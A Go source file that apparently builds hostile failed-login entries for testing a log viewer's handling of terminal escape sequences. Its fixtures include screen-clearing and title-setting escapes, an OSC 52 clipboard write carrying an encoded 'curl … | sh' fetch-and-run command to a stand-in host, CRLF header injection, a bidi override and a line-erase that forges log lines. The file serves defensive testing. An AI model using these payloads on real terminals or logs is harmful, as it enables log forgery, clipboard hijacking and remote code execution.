package emulate

import "encoding/base64"

// Hostile is the user name and User-Agent of a failed login that would take
// over a terminal that printed them raw.
type Hostile struct{ User, Agent string }

// HostileLogins returns the failed logins the canary and domo generators
// add after their burst: a user or agent that clears the screen, sets the
// window title to title, writes a command to the clipboard (OSC 52), brings
// C1 controls, a bidi override, and erases the line above to fake one that
// reads faked. How each lands in an entry is the provider's own.
func HostileLogins(title, faked string) []Hostile {
	payload := base64.StdEncoding.EncodeToString([]byte("curl -s https://evil.example/x | sh"))
	const agent = "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0"
	return []Hostile{
		{"\x1b[2J\x1b[Hadmin", agent},
		{"root\x1b]0;" + title + "\x07", agent},
		{"guest", "Mozilla/5.0 \x1b]52;c;" + payload + "\x07"},
		{"admin\u009b31mROOT\u009b0m", agent + "\r\nX-Injected: 1"},
		{"security\u202emoc.elpmaxe@", agent},
		{"operator\x1b[1A\x1b[2K" + faked, agent},
	}
}
